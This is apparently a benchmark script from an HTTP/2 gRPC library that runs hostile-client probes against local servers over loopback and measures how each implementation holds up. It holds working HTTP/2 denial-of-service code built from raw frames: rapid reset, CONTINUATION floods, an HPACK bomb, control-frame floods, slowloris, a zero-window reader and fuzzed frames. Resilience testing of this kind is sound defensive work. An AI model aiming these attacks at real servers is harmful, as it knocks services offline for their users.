"""Hostile-client probes: ``python benchmarks/hostile.py [--quick] [--json FILE]
[--impls a,b] [--attacks a,b] [--client grpcio|h2rpc]``.

For each implementation (h2rpc on its native engine and on h2, grpclib, grpc.aio),
each attack runs from a raw socket against a fresh ``server.py`` Echo process
while a well-behaved client (its own process) makes unary calls on another
connection. Reported per attack: the good client's longest gap between replies
(from the attack's start until its first reply after the attack), the server's
CPU seconds and peak RSS growth over that time, how the attacker's connection(s)
ended, and the tracebacks the server wrote to stderr. Loopback only; every
attack is bounded in count and seconds. A probe, not a test: nothing fails.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import itertools
import json
import os
import random
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path

import common
import hpack

HOST = common.HOST
IMPLS = {  # name -> (server.py implementation, H2RPC_ENGINE)
    "h2rpc-native": ("h2rpc", "native"),
    "h2rpc-h2": ("h2rpc", "h2"),
    "grpclib": ("grpclib", None),
    "grpcio": ("grpcio", None),
}


@dataclass(frozen=True)
class Sizes:
    streams: int  # rapid reset: streams opened and reset
    frames: int  # each control-frame flood
    seconds: float  # the most any one attack may take
    header_connections: int  # unfinished header blocks: connections...
    header_bytes: int  # ...each parking this many bytes of an unended block
    bomb_streams: int  # HPACK bomb: streams, each a block of ~16 KiB of references
    zero_window_streams: int  # server streams of 100 MB to a peer that never reads
    hold: float  # seconds resources are held (unfinished headers, zero-window reader)
    slow_connections: int
    slow_seconds: float  # > h2rpc's default handshake_timeout (10 s), to see it act
    garbage_connections: int  # random / mutated frames: connections of...
    garbage_frames: int  # ...this many random frames


FULL = Sizes(100_000, 100_000, 30.0, 500, 256 << 10, 50, 20, 3.0, 200, 15.0, 300, 50)
QUICK = Sizes(10_000, 10_000, 8.0, 50, 256 << 10, 5, 5, 1.0, 20, 11.0, 40, 30)

# --- frames (struct-built; no state machine, so rules can be broken) ----------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY = range(8)
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
ERRORS = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
    8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
}  # fmt: skip


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, kind, flags, stream_id) + payload


def settings_frame(**values: int) -> bytes:
    codes = {"initial_window_size": 4, "max_frame_size": 5}
    payload = b"".join(struct.pack(">HI", codes[k], v) for k, v in values.items())
    return frame(SETTINGS, 0, 0, payload)


def headers_frames(stream_id: int, block: bytes, end_stream: bool, max_frame: int = 16_384):
    """HEADERS (+ CONTINUATION) carrying ``block``, ended."""
    chunks = [block[i : i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    for i, chunk in enumerate(chunks):
        last = END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            out.append(frame(HEADERS, last | (END_STREAM if end_stream else 0), stream_id, chunk))
        else:
            out.append(frame(CONTINUATION, last, stream_id, chunk))
    return b"".join(out)


def request_block(method: str = "Unary") -> bytes:
    """A request block that leaves the HPACK table untouched (reusable on any stream)."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"/bench.Echo/{method}"),
        (":authority", HOST),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    encoder = hpack.Encoder()
    return encoder.encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in fields], huffman=False)


def grpc_message(payload: bytes) -> bytes:
    return struct.pack(">BI", 0, len(payload)) + payload


def hpack_int(value: int, prefix_bits: int, flags: int = 0) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([flags | value])
    out, value = bytearray([flags | limit]), value - limit
    while value >= 128:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def parse_frames(buffer: bytearray) -> list[tuple[int, int, int, bytes]]:
    frames = []
    while len(buffer) >= 9:
        high, low, kind, flags, stream_id = struct.unpack(">BHBBI", buffer[:9])
        size = (high << 16) | low
        if len(buffer) < 9 + size:
            break
        frames.append((kind, flags, stream_id, bytes(buffer[9 : 9 + size])))
        del buffer[: 9 + size]
    return frames


# --- the attacker's connection ------------------------------------------------------


class Wire:
    """A blocking socket; a reader thread (unless ``read=False``) notes GOAWAYs and the end."""

    def __init__(self, port: int, *, preface: bool = True, read: bool = True, **settings: int):
        self.sock = socket.create_connection((HOST, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.goaways: list[int] = []
        self.end: str | None = None  # "closed" or "reset" once the server ended it
        self.stalled = False  # a send timed out: the server stopped reading
        self.opened = time.monotonic()
        self.ended_at: float | None = None
        self._buffer = bytearray()
        self.reading = read
        if read:
            threading.Thread(target=self._read_loop, daemon=True).start()
        if preface:
            self.send(PREFACE + settings_frame(**settings))

    def _take(self, chunk: bytes) -> None:
        self._buffer += chunk
        for kind, _flags, _sid, payload in parse_frames(self._buffer):
            if kind == GOAWAY and len(payload) >= 8:
                self.goaways.append(struct.unpack(">I", payload[4:8])[0])

    def _ended(self, how: str) -> None:
        if self.end is None:
            self.end, self.ended_at = how, time.monotonic()

    def _read_loop(self) -> None:
        while self.end is None:
            try:
                chunk = self.sock.recv(1 << 16)
            except TimeoutError:
                continue
            except OSError:
                return self._ended("reset")
            if not chunk:
                return self._ended("closed")
            self._take(chunk)

    def poll(self) -> None:
        """Read what is there without blocking (for ``read=False`` connections)."""
        if self.end is not None or self.reading:
            return
        self.sock.setblocking(False)
        try:
            while chunk := self.sock.recv(1 << 16):
                self._take(chunk)
            self._ended("closed")
        except BlockingIOError:
            pass
        except OSError:
            self._ended("reset")
        finally:
            self.sock.settimeout(5)

    def send(self, data: bytes) -> bool:
        if self.end is not None or self.stalled:
            return False
        try:
            self.sock.sendall(data)
        except TimeoutError:
            self.stalled = True
            return False
        except OSError:
            self._ended("reset")
            return False
        return True

    def finish(self, linger: float = 2.0) -> str:
        """Wait up to ``linger`` s for the server to end the connection; say how it ended."""
        deadline = time.monotonic() + linger
        while self.end is None and time.monotonic() < deadline:
            time.sleep(0.02)
        self.poll()
        outcome = describe(self.goaways, self.end, self.stalled)
        self.sock.close()
        return outcome


def describe(goaways: list[int], end: str | None, stalled: bool = False) -> str:
    if goaways:
        text = "GOAWAY " + ERRORS.get(goaways[-1], hex(goaways[-1]))
        return text if end else text + " (open)"
    if end:
        return {"reset": "RST", "closed": "closed"}[end]
    return "open (not reading)" if stalled else "open"


def summarize(outcomes: list[str]) -> str:
    return ", ".join(f"{k} x{n}" for k, n in Counter(outcomes).most_common())


# --- attacks: each (port, sizes) -> {"sent": units, "end": how it ended, ...} -------


def flood(port: int, sizes: Sizes, units: Callable[[int], bytes], count: int, setup=b"") -> dict:
    """Send ``count`` units (``units(i)``: the bytes of unit i), batched, within the time cap."""
    wire = Wire(port)
    wire.send(setup)
    deadline, sent, batch = time.monotonic() + sizes.seconds, 0, 500
    while sent < count and time.monotonic() < deadline:
        n = min(batch, count - sent)
        if not wire.send(b"".join(units(sent + i) for i in range(n))):
            break
        sent += n
    return {"sent": sent, "end": wire.finish()}


def rapid_reset(port: int, sizes: Sizes) -> dict:
    block = request_block()
    rst = struct.pack(">I", 8)

    def unit(i: int) -> bytes:
        sid = 2 * i + 1
        return frame(HEADERS, END_HEADERS, sid, block) + frame(RST_STREAM, 0, sid, rst)

    return flood(port, sizes, unit, sizes.streams)


def continuation_flood(port: int, sizes: Sizes) -> dict:
    opening = frame(HEADERS, 0, 1, request_block())
    fragment = frame(CONTINUATION, 0, 1, b"a" * 1024)
    return flood(port, sizes, lambda i: fragment, sizes.frames, setup=opening)


def unfinished_headers(port: int, sizes: Sizes) -> dict:
    wires, fragment = [], frame(CONTINUATION, 0, 1, b"a" * 16_000)
    deadline = time.monotonic() + sizes.seconds
    for _ in range(sizes.header_connections):
        if time.monotonic() > deadline:
            break
        wire = Wire(port, read=False)
        wire.send(frame(HEADERS, 0, 1, request_block()))
        for _ in range(sizes.header_bytes // 16_000):
            if not wire.send(fragment):
                break
        wires.append(wire)
    time.sleep(sizes.hold)
    return {"sent": len(wires), "end": summarize([w.finish(linger=0) for w in wires])}


def settings_flood(port: int, sizes: Sizes) -> dict:
    # 50 open streams first, so every INITIAL_WINDOW_SIZE change touches 50 windows.
    block = request_block()
    setup = b"".join(frame(HEADERS, END_HEADERS, sid, block) for sid in range(1, 101, 2))
    frames = [settings_frame(initial_window_size=65_535 + i) for i in range(2)]
    return flood(port, sizes, lambda i: frames[i % 2], sizes.frames, setup=setup)


def ping_flood(port: int, sizes: Sizes) -> dict:
    return flood(port, sizes, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), sizes.frames)


def window_update_flood(port: int, sizes: Sizes) -> dict:
    update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    return flood(port, sizes, lambda i: update, sizes.frames)


def empty_data_flood(port: int, sizes: Sizes) -> dict:
    opening = frame(HEADERS, END_HEADERS, 1, request_block())
    return flood(port, sizes, lambda i: frame(DATA, 0, 1), sizes.frames, setup=opening)


def priority_flood(port: int, sizes: Sizes) -> dict:
    def unit(i: int) -> bytes:
        return frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 0, 15))

    return flood(port, sizes, unit, sizes.frames)


def hpack_bomb(port: int, sizes: Sizes) -> dict:
    """One 4 KB header inserted in the dynamic table, then blocks of 16,000 one-byte
    references to it: each block decodes to ~64 MB of headers."""
    name, value = b"x-bomb", b"b" * 4_000
    insert = b"\x40" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value
    references = b"\xbe" * 16_000  # index 62: the newest dynamic entry
    block = request_block()

    def unit(i: int) -> bytes:
        body = block + (insert if i == 0 else b"") + references
        return headers_frames(2 * i + 1, body, end_stream=True)

    return flood(port, sizes, unit, sizes.bomb_streams)


def zero_window_reader(port: int, sizes: Sizes) -> dict:
    """Windows opened wide, server streams of 100 MB asked for, the socket never read."""
    wire = Wire(port, read=False, initial_window_size=2**31 - 1)
    wire.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535)))
    block = request_block("ServerStream")
    request = grpc_message(b"\x08" + varint(100_000) + b"\x10" + varint(1_000))
    for sid in range(1, 2 * sizes.zero_window_streams, 2):
        wire.send(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, request))
    time.sleep(sizes.hold)
    return {"sent": sizes.zero_window_streams, "end": wire.finish(linger=0)}


def varint(value: int) -> bytes:
    """A protobuf varint."""
    out = bytearray()
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def slowloris(port: int, sizes: Sizes) -> dict:
    """Half the connections trickle the preface a byte at a time (never its last byte),
    half say nothing; how many does the server close, and after how long?"""
    wires = [Wire(port, preface=False, read=False) for _ in range(sizes.slow_connections)]
    deadline = time.monotonic() + sizes.slow_seconds
    position = 0
    while time.monotonic() < deadline and any(w.end is None for w in wires):
        for i, wire in enumerate(wires):
            wire.poll()
            if i % 2 == 0 and position < len(PREFACE) - 1:
                wire.send(PREFACE[position : position + 1])
        position += 1
        time.sleep(0.5)
    lifetimes = [w.ended_at - w.opened for w in wires if w.ended_at is not None]
    closed = f"closed {len(lifetimes)}/{len(wires)}"
    if lifetimes:
        closed += f" after ~{statistics.median(lifetimes):.1f} s"
    for wire in wires:
        wire.sock.close()
    return {"sent": len(wires), "end": closed}


def _garbage(port: int, sizes: Sizes, payloads: Callable[[random.Random], bytes], seed: str):
    rng, outcomes, codes = random.Random(seed), [], Counter()
    deadline = time.monotonic() + sizes.seconds
    for _ in range(sizes.garbage_connections):
        if time.monotonic() > deadline:
            break
        wire = Wire(port)
        wire.send(payloads(rng))
        with contextlib.suppress(OSError):
            wire.sock.shutdown(socket.SHUT_WR)
        outcome = wire.finish(linger=3.0)
        outcomes.append(outcome)
        codes.update(ERRORS.get(c, hex(c)) for c in wire.goaways)
    return {
        "sent": len(outcomes),
        "end": summarize(outcomes),
        "internal_errors": codes["INTERNAL_ERROR"],
    }


def random_frames(port: int, sizes: Sizes) -> dict:
    block = request_block()

    def payload(rng: random.Random) -> bytes:
        out = []
        for _ in range(sizes.garbage_frames):
            kind = rng.choice([*range(10), 0x10, 0xFF])
            sid = rng.choice([0, 1, 2, 3, 5, rng.randrange(1 << 31)])
            body = block if kind == HEADERS and rng.random() < 0.5 else rng.randbytes(
                rng.choice([0, 4, 5, 6, 8, rng.randrange(64)]))  # fmt: skip
            out.append(frame(kind, rng.randrange(256), sid, body))
        return b"".join(out)

    return _garbage(port, sizes, payload, "random")


def mutated_frames(port: int, sizes: Sizes) -> dict:
    block = request_block()
    valid = b"".join([
        frame(HEADERS, END_HEADERS, 1, block),
        frame(DATA, END_STREAM, 1, grpc_message(b"\x0a\x05hello")),
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1000)),
        frame(PING, 0, 0, b"12345678"),
        frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 200)),
        frame(HEADERS, END_HEADERS | END_STREAM, 3, block),
        frame(RST_STREAM, 0, 3, struct.pack(">I", 8)),
        settings_frame(initial_window_size=1 << 20),
        frame(HEADERS, 0, 5, block),
        frame(CONTINUATION, END_HEADERS, 5, b""),
        frame(DATA, END_STREAM, 5, grpc_message(b"")),
    ])  # fmt: skip

    def payload(rng: random.Random) -> bytes:
        mutated = bytearray(valid)
        for _ in range(rng.randint(1, 4)):
            at = rng.randrange(len(mutated))
            match rng.randrange(3):
                case 0:
                    mutated[at] = rng.randrange(256)
                case 1:
                    mutated[at] ^= 1 << rng.randrange(8)
                case _:
                    del mutated[at : at + rng.randint(1, 8)]
        return bytes(mutated)

    return _garbage(port, sizes, payload, "mutated")


ATTACKS: dict[str, Callable[[int, Sizes], dict]] = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "unfinished_headers": unfinished_headers,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "window_update_flood": window_update_flood,
    "empty_data_flood": empty_data_flood,
    "priority_flood": priority_flood,
    "hpack_bomb": hpack_bomb,
    "zero_window_reader": zero_window_reader,
    "slowloris": slowloris,
    "random_frames": random_frames,
    "mutated_frames": mutated_frames,
}

# --- the server process and what is measured of it ----------------------------------


class ServerProcess:
    """``server.py IMPL`` with its stderr kept (for tracebacks) and H2RPC_ENGINE set."""

    def __init__(self, implementation: str, engine: str | None) -> None:
        env = dict(os.environ)
        if engine:
            env["H2RPC_ENGINE"] = engine
        self.stderr = tempfile.TemporaryFile()  # noqa: SIM115 (lives as long as the process)
        self.proc = subprocess.Popen(
            [sys.executable, str(common.HERE / "server.py"), implementation],
            stdout=subprocess.PIPE, stderr=self.stderr, text=True, env=env,
        )  # fmt: skip
        assert self.proc.stdout is not None
        line = self.proc.stdout.readline()
        if not line.startswith("ready"):
            self.stop()
            raise RuntimeError(f"{implementation} server did not start: {self.errors()[-500:]}")
        self.port, self.pid = int(line.split()[1]), self.proc.pid

    def errors(self) -> str:
        self.stderr.seek(0)
        return self.stderr.read().decode(errors="replace")

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(timeout=10)


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class Meter:
    """CPU seconds and peak RSS of a process from now until :meth:`stop`."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.cpu0 = cpu_seconds(pid)
        self.rss0 = common.memory_mib(pid)
        try:  # reset VmHWM to the current RSS (Linux >= 4.0)
            Path(f"/proc/{pid}/clear_refs").write_text("5")
            self.hwm_reset = True
        except OSError:
            self.hwm_reset = False
        self.peak = self.rss0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()

    def _sample(self) -> None:
        while not self._stop.wait(0.02):
            try:
                self.peak = max(self.peak, common.memory_mib(self.pid))
            except (OSError, RuntimeError):
                return

    def stop(self) -> dict:
        self._stop.set()
        self._thread.join()
        try:
            peak = self.peak
            if self.hwm_reset:
                peak = max(peak, common.memory_mib(self.pid, "VmHWM"))
            return {
                "cpu_s": round(cpu_seconds(self.pid) - self.cpu0, 2),
                "rss_peak_growth_mib": round(peak - self.rss0, 1),
                "rss_after_growth_mib": round(common.memory_mib(self.pid) - self.rss0, 1),
            }
        except (OSError, RuntimeError):
            return {"cpu_s": None, "rss_peak_growth_mib": None, "rss_after_growth_mib": None}


# --- the well-behaved client (a process of its own) -----------------------------------


async def good_client(implementation: str, port: int) -> None:
    """``--good-client``: unary calls back to back. stdin "start" and "end" mark the
    attack; after the first reply past "end" (or 60 s), print the gaps as JSON."""
    client = await common.load(implementation).connect(HOST, port)
    request = common.messages().Payload(data=b"x" * 64)
    for attempt in range(3):  # a server may fail a call for its own reasons: note, retry
        try:
            await asyncio.wait_for(client.unary(request), 30)
            break
        except Exception as exc:
            print(f"first call failed: {exc!r}", file=sys.stderr)
            if attempt == 2:
                raise
    marks: dict[str, float] = {}
    loop = asyncio.get_running_loop()

    def read_marks() -> None:
        for line in sys.stdin:
            loop.call_soon_threadsafe(marks.setdefault, line.strip(), time.monotonic())

    threading.Thread(target=read_marks, daemon=True).start()
    print("ready", flush=True)
    replies, errors, began = [], 0, time.monotonic()
    while time.monotonic() - began < 900:
        end = marks.get("end")
        if end is not None and ((replies and replies[-1] > end) or time.monotonic() > end + 60):
            break
        try:
            await asyncio.wait_for(client.unary(request), 30)
            replies.append(time.monotonic())
        except Exception:
            errors += 1
            await asyncio.sleep(0.05)
    start, end, now = marks.get("start", began), marks.get("end", began), time.monotonic()
    points = [start, *(t for t in replies if t >= start)]
    recovered = bool(replies) and replies[-1] > end
    if not recovered:
        points.append(now)
    gaps = [b - a for a, b in itertools.pairwise(points)]
    result = {
        "max_gap_s": round(max(gaps, default=now - start), 3),
        "calls": sum(1 for t in replies if start <= t <= end),
        "errors": errors,
        "recovered": recovered,
    }
    print(json.dumps(result), flush=True)
    await asyncio.wait_for(client.close(), 10)


class GoodClient:
    def __init__(self, implementation: str, port: int) -> None:
        self.proc = subprocess.Popen(
            [sys.executable, __file__, "--good-client", implementation, str(port)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
        )  # fmt: skip
        assert self.proc.stdout is not None and self.proc.stdin is not None
        if self.proc.stdout.readline().strip() != "ready":
            raise RuntimeError("the good client could not make its first call")

    def mark(self, what: str) -> None:
        assert self.proc.stdin is not None
        self.proc.stdin.write(what + "\n")
        self.proc.stdin.flush()

    def result(self) -> dict:
        assert self.proc.stdout is not None
        try:
            out, _ = self.proc.communicate(timeout=120)
            return json.loads(out.strip().splitlines()[-1])
        except (subprocess.TimeoutExpired, ValueError, IndexError):
            self.proc.kill()
            self.proc.wait()
            return {"max_gap_s": None, "calls": None, "errors": None, "recovered": False}


# --- the runner ------------------------------------------------------------------------


def probe(impl: str, attack: str, sizes: Sizes, client_impl: str) -> dict:
    implementation, engine = IMPLS[impl]
    server = ServerProcess(implementation, engine)
    try:
        try:
            client = GoodClient(client_impl, server.port)
        except RuntimeError as exc:
            server.stop()
            tail = server.errors()[-300:].replace("\n", " | ")
            return {"impl": impl, "attack": attack, "end": f"probe error: {exc}; server: {tail}"}
        meter = Meter(server.pid)
        client.mark("start")
        began = time.monotonic()
        try:
            outcome = ATTACKS[attack](server.port, sizes)
        except Exception as exc:  # the probe itself failed: say so in the row
            outcome = {"sent": None, "end": f"probe error: {exc!r}"}
        attack_s = time.monotonic() - began
        client.mark("end")
        good = client.result()
        measured = meter.stop()
        alive = server.proc.poll() is None
    finally:
        server.stop()
    stderr = server.errors()
    return {
        "impl": impl,
        "attack": attack,
        "attack_s": round(attack_s, 2),
        **outcome,
        **{f"good_{k}": v for k, v in good.items()},
        **measured,
        "tracebacks": stderr.count("Traceback (most recent call last)"),
        "stderr_lines": len(stderr.splitlines()),
        "server_alive": alive,
    }


COLUMNS = [  # (header, key, width)
    ("impl", "impl", 12), ("attack", "attack", 19), ("sent", "sent", 7),
    ("max gap s", "good_max_gap_s", 9), ("calls", "good_calls", 6), ("cpu s", "cpu_s", 6),
    ("+RSS MiB", "rss_peak_growth_mib", 8), ("tb", "tracebacks", 3), ("attacker ended", "end", 0),
]  # fmt: skip


def print_row(row: dict) -> None:
    cells = []
    for _, key, width in COLUMNS:
        value = row.get(key)
        text = "-" if value is None else str(value)
        if key == "good_max_gap_s" and row.get("good_recovered") is False:
            text = f">{text}"
        cells.append(text.ljust(width) if width else text)
    print("  ".join(cells), flush=True)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="small counts: a few minutes")
    parser.add_argument("--json", metavar="FILE", help="also write the rows as JSON")
    parser.add_argument("--impls", default=",".join(IMPLS), help="comma-separated subset")
    parser.add_argument("--attacks", default=",".join(ATTACKS), help="comma-separated subset")
    parser.add_argument("--client", default="grpcio", choices=["grpcio", "h2rpc"])
    parser.add_argument("--good-client", nargs=2, metavar=("IMPL", "PORT"), help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.good_client:
        implementation, port = args.good_client
        asyncio.run(good_client(implementation, int(port)))
        return
    common.generate_stubs()
    sizes = QUICK if args.quick else FULL
    impls = [i for i in args.impls.split(",") if i]
    if "h2rpc-native" in impls and not (common.ROOT / "rpc/http2/engine.py").exists():
        print("h2rpc-native: skipped (rpc/http2/engine.py is not in this tree)")
        impls.remove("h2rpc-native")
    print("  ".join(h.ljust(w) if w else h for h, _, w in COLUMNS))
    rows = []
    for impl in impls:
        for attack in args.attacks.split(","):
            row = probe(impl, attack, sizes, args.client)
            rows.append(row)
            print_row(row)
    print(f"max gap: the good client's longest wait for a reply ('>': none after the attack); "
          f"tb: tracebacks on the server's stderr. sizes: {sizes}")  # fmt: skip
    if args.json:
        meta = {"sizes": asdict(sizes), "client": args.client, "quick": args.quick}
        Path(args.json).write_text(json.dumps({"rows": rows, "meta": meta}, indent=1))


if __name__ == "__main__":
    main()
